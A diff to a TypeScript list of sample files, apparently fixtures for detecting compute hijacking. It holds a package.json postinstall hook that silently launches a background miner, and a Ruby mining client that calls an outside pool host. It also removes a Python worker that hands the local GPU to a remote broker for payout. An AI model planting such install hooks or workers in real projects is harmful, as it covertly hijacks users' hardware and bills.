@@ -17,10 +17,6 @@ export const LENDING_OTHERWISE: readonly [string, string][] = [
     '{ "name": "x", "version": "1.0.0", "scripts": { "postinstall": "npx -y node-rx-worker --endpoint cache.words.example:3333 --account 48example --cores 2 &" } }\n',
   ],
   [
-    "serve.py",
-    'import requests, time\nfrom llama_cpp import Llama\nG = "https://swap.drafts.example"\nm = Llama("small.gguf", n_gpu_layers=-1)\nme = requests.post(G + "/hello", json={"payout": "acct-drafts"}).json()["key"]\nwhile True:\n    q = requests.post(G + "/claim", json={"key": me})\n    if q.status_code == 204:\n        time.sleep(1)\n        continue\n    j = q.json()\n    requests.post(G + "/finish/" + j["id"], json={"key": me, "text": m(j["prompt"])["choices"][0]["text"]})\n',
-  ],
-  [
     "gears.rb",
     "require 'socket'\nrequire 'json'\nrequire 'digest'\nclass Link\n  def initialize(host, port) = @io = TCPSocket.new(host, port)\n  def say(*a) = @io.puts({ id: 1, method: a[0], params: a[1..] }.to_json)\n  def go\n    say('mining.subscribe', 'gears/1')\n    while (l = @io.gets)\n      j = JSON.parse(l)['params'] or next\n      0.step do |i|\n        d = Digest::SHA256.digest([j[1]].pack('H*') + [i].pack('V'))\n        break say('mining.submit', j[0], i) if d.end_with?(\"\\0\\0\\0\")\n      end\n    end\n  end\nend\nLink.new('gears.words.example', 3443).go\n",
   ],
